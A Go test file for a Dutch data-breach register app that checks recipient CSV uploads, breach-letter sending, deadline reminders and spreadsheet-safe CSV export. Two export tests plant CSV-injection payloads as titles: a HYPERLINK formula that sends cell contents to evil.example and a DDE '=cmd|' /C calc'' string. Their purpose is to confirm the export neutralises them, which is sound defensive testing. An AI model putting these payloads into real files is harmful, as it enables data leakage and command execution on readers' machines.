package web_test

import (
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/avgloket/avgloket/internal/breach"
	"github.com/avgloket/avgloket/internal/staff"
)

// registered stores b through the service as the owner, assessed very
// high and decided as given.
func (a *breachApp) registered(tb testing.TB, b breach.Breach, inform string) breach.Record {
	tb.Helper()
	owner, err := a.store.MemberByEmail(tb.Context(), "els@delinde.example")
	if err != nil {
		tb.Fatal(err)
	}
	actor := breach.Actor{ID: owner.ID, Name: owner.Name, Email: owner.Email, Owner: true, Scope: breach.Scope{All: true}, Address: "192.0.2.1"}
	r, err := a.breaches.Create(tb.Context(), actor, b)
	if err != nil {
		tb.Fatalf("Create: %v", err)
	}
	if inform == "" {
		return r
	}
	as := breach.Assessment{DPC: 4, EI: 1, Confidentiality: breach.UnknownRecipients, Integrity: breach.None, Availability: breach.None, Malicious: true}
	if _, err := a.breaches.Assess(tb.Context(), actor, r.Reference, as, nil, ""); err != nil {
		tb.Fatalf("Assess: %v", err)
	}
	d := breach.Decision{NotifyAP: true, InformPeople: inform}
	if inform != breach.InformYes {
		d.Reason = "Te veel mensen om apart te schrijven."
	}
	if r, err = a.breaches.Decide(tb.Context(), actor, r.Reference, d); err != nil {
		tb.Fatalf("Decide: %v", err)
	}
	return r
}

func stolenLaptop(tb testing.TB, a *breachApp) breach.Breach {
	tb.Helper()
	return breach.Breach{Title: "Laptop gestolen", Branch: "utrecht", AwareAt: a.clock.Now().Add(-time.Hour),
		Description: "Laptop met dossiers gestolen.", Kinds: []breach.Kind{breach.Confidentiality}, Incident: breach.Theft,
		DataCategories: []string{breach.CategoryContact, breach.CategoryYouthCare}, AffectedGroups: []string{breach.GroupChildren}}
}

// The people to inform come from a CSV: valid rows go on the list once,
// bad rows come back with their line numbers; each person then gets one
// e-mail with the letter in their language, queued for sending.
func TestBreachLettersToPeople(t *testing.T) {
	a := newBreachApp(t)
	r := a.registered(t, stolenLaptop(t, a), breach.InformYes)
	a.breachMember(t, "u@delinde.example", "Uri Utrecht", staff.Officer, "utrecht")
	owner := a.breachSignIn(t, "els@delinde.example")
	path := "/staff/breaches/" + r.Reference

	upload := "naam;e-mail;taal\r\n" +
		"Anna de Vries;anna@example.nl;nl\r\n" + // line 2
		"Bram Bakker;bram@example;nl\r\n" + // line 3: no dot in the domain
		"Chris Claes;chris@example.be;fr\r\n" + // line 4: unknown language
		"Anna;ANNA@example.nl;en\r\n" + // line 5: the same address again
		"\r\n" +
		"Dina Dekker;dina@example.com;en\r\n" + // line 7
		"Eef;;nl\r\n" // line 8: no address
	p := owner.upload(path+"/recipients", "csv", "ouders.csv", []byte(upload))
	wantStatus(t, p, http.StatusOK)
	breachShows(t, p, a.cat.T("nl", "breach.upload.result", map[string]any{"Added": 2, "Skipped": 0}))
	var bad []string
	for _, tr := range p.find(func(n *htmlNode) bool { return n.Data == "tr" }) {
		if tr.Parent.Data == "tbody" && attr(tr.Parent.Parent, "id") == "bad-rows" {
			bad = append(bad, textContent(tr))
		}
	}
	want := []string{
		"3 email " + a.nl("field.email"),
		"4 language " + a.nl("breach.csv_language"),
		"5 email " + a.nl("breach.csv_duplicate"),
		"8 email " + a.nl("field.required"),
	}
	if !slices.Equal(bad, want) {
		t.Errorf("bad rows\n%q\nwant\n%q", bad, want)
	}
	// A second upload: who is on the list already is skipped.
	p = owner.upload(path+"/recipients", "csv", "meer.csv", []byte("email,name\nanna@example.nl,Anna\neva@example.nl,Eva\n"))
	breachShows(t, p, a.cat.T("nl", "breach.upload.result", map[string]any{"Added": 1, "Skipped": 1}))
	// Nothing valid: 422 and nothing added.
	p = owner.upload(path+"/recipients", "csv", "leeg.csv", []byte("email\nniet-een-adres\n"))
	wantStatus(t, p, http.StatusUnprocessableEntity)
	// Only owners upload and send.
	officer := a.breachSignIn(t, "u@delinde.example")
	wantStatus(t, officer.upload(path+"/recipients", "csv", "x.csv", []byte("email\nx@example.nl\n")), http.StatusNotFound)
	wantStatus(t, officer.postForm(path+"/send"), http.StatusNotFound)
	if got := owner.get(path + "/letter"); !got.hasField("csv") || officer.get(path+"/letter").hasField("csv") {
		t.Error("the upload form is not the owner's only")
	}

	// Edit the Dutch letter, then send.
	letter := owner.get(path + "/letter")
	nl := strings.Replace(letter.fieldValue("letter_nl"), "Beste lezer,", "Beste ouder,", 1)
	breachAt(t, owner.postForm(path+"/letter", "letter_nl", nl, "letter_en", letter.fieldValue("letter_en"),
		"notice_nl", letter.fieldValue("notice_nl"), "notice_en", letter.fieldValue("notice_en")))
	breachAt(t, owner.postForm(path+"/send"))

	mails := map[string][]string{}
	for _, q := range a.outbox(t) {
		if q.Message.ReplyTo != "privacy@delinde.example" {
			t.Errorf("letter to %s: Reply-To %q, want the practice's privacy address", q.Message.To, q.Message.ReplyTo)
		}
		mails[q.Message.To] = append(mails[q.Message.To], q.Message.Subject+"\n"+q.Message.Text)
	}
	for address, lang := range map[string]string{"anna@example.nl": "nl", "dina@example.com": "en", "eva@example.nl": "nl"} {
		got := mails[address]
		if len(got) != 1 {
			t.Errorf("%s got %d mails, want 1", address, len(got))
			continue
		}
		subject, text, _ := strings.Cut(got[0], "\n")
		switch lang {
		case "nl":
			if subject != "er is iets misgegaan met uw gegevens" || !strings.HasPrefix(text, "Beste ouder,") || strings.Contains(text, "Onderwerp:") {
				t.Errorf("mail to %s: %q\n%s", address, subject, text)
			}
		case "en":
			if subject != "something went wrong with your personal information" || !strings.Contains(text, "was stolen") {
				t.Errorf("mail to %s: %q\n%s", address, subject, text)
			}
		}
	}
	if len(mails) != 3 {
		t.Errorf("mails to %d addresses, want 3: %v", len(mails), slices.Sorted(func(yield func(string) bool) {
			for k := range mails {
				if !yield(k) {
					return
				}
			}
		}))
	}
	// Whose letter was queued when is on record; nobody is told before the
	// mail server has the letter (TestBreachLettersDelivered).
	people, err := a.breaches.People(t.Context(), mustRecord(t, a, r.Reference))
	if err != nil {
		t.Fatal(err)
	}
	for _, pe := range people {
		if pe.QueuedAt == nil || !pe.QueuedAt.Equal(a.clock.Now()) || pe.Delivery() != breach.Queued {
			t.Errorf("%s queued at %v, %s", pe.Email, pe.QueuedAt, pe.Delivery())
		}
	}
	rec := mustRecord(t, a, r.Reference)
	if rec.Informed == nil || rec.Informed.How != "per e-mail" || rec.Informed.At != nil ||
		rec.Informed.Count.Exact == nil || *rec.Informed.Count.Exact != 0 || rec.Queued != 3 || rec.Told != 0 {
		t.Errorf("informed = %+v, %d queued, %d told; want by e-mail, nobody told yet", rec.Informed, rec.Queued, rec.Told)
	}
	// Sending again finds nobody left to tell.
	wantStatus(t, owner.postForm(path+"/send"), http.StatusConflict)
	if n := len(a.outbox(t)); n != 3 {
		t.Errorf("%d mails after sending twice, want 3", n)
	}
}

// A file over the upload's limit is refused before it is read.
func TestBreachUploadTooLarge(t *testing.T) {
	a := newBreachApp(t)
	r := a.registered(t, stolenLaptop(t, a), breach.InformYes)
	owner := a.breachSignIn(t, "els@delinde.example")
	big := []byte("email\n" + strings.Repeat("a@example.nl\n", 7<<20/13))
	wantStatus(t, owner.upload("/staff/breaches/"+r.Reference+"/recipients", "csv", "groot.csv", big), http.StatusRequestEntityTooLarge)
	if rec := mustRecord(t, a, r.Reference); rec.Recipients != 0 {
		t.Errorf("%d people stored from a refused upload", rec.Recipients)
	}
}

// The register export neutralises spreadsheet formulas in every cell.
func TestBreachExportIsFormulaSafe(t *testing.T) {
	a := newBreachApp(t)
	b := stolenLaptop(t, a)
	b.Title = `=HYPERLINK("http://evil.example/?"&A1,"klik")`
	b.Description = "+31 6 12345678 belde"
	b.ReportedBy = "@secretariaat"
	b.HowDiscovered = "-ontdekt bij controle"
	r := a.registered(t, b, "")
	owner := a.breachSignIn(t, "els@delinde.example")
	p := owner.get("/staff/breaches/export.csv")
	wantStatus(t, p, http.StatusOK)
	if ct := p.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.Body, "\ufeff"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v, %d rows", err, len(rows))
	}
	head, row := rows[0], rows[1]
	for i, cell := range row {
		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
			t.Errorf("column %s starts with %q: %q", head[i], cell[0], cell)
		}
	}
	col := func(name string) string { return row[slices.Index(head, name)] }
	if col("reference") != r.Reference || col("title") != "'"+b.Title || col("description") != "'"+b.Description ||
		col("reported_by") != "'@secretariaat" {
		t.Errorf("row %q", row)
	}
}

// A cell that a Dutch spreadsheet splits on ";" (or another on "," or a tab)
// holds no formula in any of its parts, and every cell is quoted, so that a
// reader that splits on ";" keeps "Lek;=cmd" together.
func TestBreachExportNeutralisesEverySegment(t *testing.T) {
	a := newBreachApp(t)
	b := stolenLaptop(t, a)
	b.Title = "Lek;=cmd|' /C calc'!A0"
	b.Description = "Gemeld, +31 6 12345678;@SUM(1)"
	a.registered(t, b, "")
	p := a.breachSignIn(t, "els@delinde.example").get("/staff/breaches/export.csv")
	wantStatus(t, p, http.StatusOK)
	body := strings.TrimPrefix(p.Body, "\ufeff")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v, %d rows", err, len(rows))
	}
	for _, line := range strings.Split(strings.TrimSuffix(body, "\r\n"), "\r\n") {
		// Every cell quoted: the line starts and ends with a quote and
		// cells are joined by "," between quotes only.
		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) {
			t.Errorf("line not quoted throughout: %q", line)
		}
	}
	for _, sep := range []string{";", ",", "\t"} {
		for i, cell := range rows[1] {
			for _, seg := range strings.Split(cell, sep) {
				seg = strings.TrimLeft(seg, " ")
				if seg != "" && strings.ContainsRune("=+-@", rune(seg[0])) {
					t.Errorf("column %s: segment %q after %q starts a formula", rows[0][i], seg, sep)
				}
			}
		}
	}
	head, row := rows[0], rows[1]
	col := func(name string) string { return row[slices.Index(head, name)] }
	if got := col("title"); got != "Lek;'=cmd|' /C calc'!A0" {
		t.Errorf("title = %q", got)
	}
	if got := col("description"); got != "Gemeld, '+31 6 12345678;'@SUM(1)" {
		t.Errorf("description = %q", got)
	}
}

// The owners are reminded at 24 and 6 hours left, and once the deadline
// passed, each reminder once; a decision not to notify ends them.
func TestBreachReminders(t *testing.T) {
	a := newBreachApp(t)
	a.breachMember(t, "tweede@delinde.example", "Tom Tweede", staff.Owner)
	a.breachMember(t, "u@delinde.example", "Uri Utrecht", staff.Officer, "utrecht")
	aware := a.clock.Now()
	r := a.registered(t, breach.Breach{Title: "USB-stick kwijt", Branch: "utrecht", AwareAt: aware,
		Description: "Een USB-stick met verslagen is kwijt."}, "")
	deadline := aware.Add(72 * time.Hour)
	steps := []struct {
		name    string
		at      time.Time
		subject string // "" for no reminder
	}{
		{"two days left", deadline.Add(-48 * time.Hour), ""},
		{"a day left", deadline.Add(-24 * time.Hour), "Datalek " + r.Reference + ": nog 24 uur om te melden bij de AP"},
		{"a day left, again", deadline.Add(-23 * time.Hour), ""},
		{"six hours left", deadline.Add(-6 * time.Hour), "Datalek " + r.Reference + ": nog 6 uur om te melden bij de AP"},
		{"five hours left", deadline.Add(-5 * time.Hour), ""},
		{"just past", deadline.Add(time.Minute), "Datalek " + r.Reference + ": de termijn van 72 uur is verstreken"},
		{"an hour past", deadline.Add(time.Hour), ""},
	}
	seen := 0
	for _, st := range steps {
		t.Run(st.name, func(t *testing.T) {
			a.clock.Set(st.at)
			n, err := a.breaches.RunReminders(t.Context())
			if err != nil {
				t.Fatal(err)
			}
			queued := a.outbox(t)[seen:]
			seen += len(queued)
			if st.subject == "" {
				if n != 0 || len(queued) != 0 {
					t.Errorf("%d reminders queued, want none", len(queued))
				}
				return
			}
			var to []string
			for _, q := range queued {
				to = append(to, q.Message.To)
				if q.Message.Subject != st.subject {
					t.Errorf("subject %q, want %q", q.Message.Subject, st.subject)
				}
				if strings.Contains(q.Message.Text, "USB") || !strings.Contains(q.Message.Text, testBaseURL+"/staff/breaches/"+r.Reference) {
					t.Errorf("reminder text:\n%s", q.Message.Text)
				}
			}
			if want := []string{"els@delinde.example", "tweede@delinde.example"}; n != 2 || !slices.Equal(slices.Sorted(slices.Values(to)), want) {
				t.Errorf("reminders to %v (%d), want the two owners", to, n)
			}
		})
	}

	// Registered with five hours left: only the six-hour reminder, never a
	// late one-day reminder; decided not to notify: nothing more.
	a.clock.Set(deadline.Add(2 * time.Hour))
	late := a.registered(t, breach.Breach{Title: "Map kwijt", AwareAt: a.clock.Now().Add(-67 * time.Hour),
		Description: "Papieren map kwijt."}, "")
	if n, err := a.breaches.RunReminders(t.Context()); err != nil || n != 2 {
		t.Fatalf("RunReminders = %d, %v; want the 6-hour reminder to two owners", n, err)
	}
	queued := a.outbox(t)[seen:]
	seen += len(queued)
	if len(queued) != 2 || !strings.Contains(queued[0].Message.Subject, late.Reference+": nog 6 uur") {
		t.Errorf("reminders %+v", queued)
	}
	owner, _ := a.store.MemberByEmail(t.Context(), "els@delinde.example")
	actor := breach.Actor{ID: owner.ID, Name: owner.Name, Owner: true, Scope: breach.Scope{All: true}}
	if _, err := a.breaches.Assess(t.Context(), actor, late.Reference, breach.Assessment{DPC: 1, EI: 0.25,
		Confidentiality: breach.None, Integrity: breach.None, Availability: breach.Temporary}, nil, ""); err != nil {
		t.Fatal(err)
	}
	if _, err := a.breaches.Decide(t.Context(), actor, late.Reference, breach.Decision{NotifyAP: false, InformPeople: breach.InformNo}); err != nil {
		t.Fatal(err)
	}
	a.clock.Set(a.clock.Now().Add(10 * time.Hour))
	if n, err := a.breaches.RunReminders(t.Context()); err != nil || n != 0 {
		t.Errorf("RunReminders after deciding not to notify = %d, %v; want none", n, err)
	}
}
